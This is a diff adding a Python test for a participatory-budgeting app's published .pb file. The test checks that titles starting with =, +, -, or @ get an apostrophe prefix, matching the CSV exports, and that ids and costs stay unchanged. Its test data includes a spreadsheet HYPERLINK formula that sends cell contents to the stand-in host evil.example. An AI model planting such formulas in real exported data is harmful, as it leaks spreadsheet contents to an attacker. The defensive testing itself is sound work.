@@ -182,3 +182,29 @@ def test_several_budgets_each_get_a_pb(ctx):
     db.session.commit()
     run_tally(run.id)
     assert publish_and_check(process) == 2
+
+
+def test_published_pb_neutralises_formula_text_like_the_csvs_and_still_recounts(ctx):
+    """A .pb opens in a spreadsheet too: its text cells get the CSVs' leading apostrophe;
+    its ids, costs and votes stay as they are, so it recounts to the same outcome."""
+    process, budget, _voters = tallied_process()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
+    projects = sorted(budget.projects, key=lambda p: (p.position, p.id))
+    projects[0].title = formula
+    projects[1].title = "-Bacheo"
+    process.municipality = "@SUM(1+1)"
+    budget.title = "+Obras"
+    db.session.commit()
+    publish_and_check(process)  # pabutools recounts it to the published outcome
+    folder = services.version_folder(process.slug, services.latest_publication(process.id).version)
+    pb = read(folder / f"presupuesto-{budget.id}.pb")
+    names = [row["name"] for row in pb.projects.values()]
+    assert names[0] == "'" + formula and names[1] == "'-Bacheo"
+    assert not any(n[:1] in "=+-@" for n in names)
+    assert pb.meta["unit"] == "'@SUM(1+1)" and pb.meta["subunit"] == "'+Obras"
+    assert pb.meta["description"] == f"{process.title}: +Obras"  # starts with the title
+    assert list(pb.projects) == [str(p.id) for p in projects]  # ids untouched
+    assert [row["cost"] for row in pb.projects.values()] == [str(p.cost) for p in projects]
+    with open(folder / "proyectos.csv", encoding="utf-8") as handle:
+        in_csv = {r["id"]: r["title"] for r in csv.DictReader(handle)}
+    assert [in_csv[code] for code in pb.projects] == names  # the same rule as the CSV
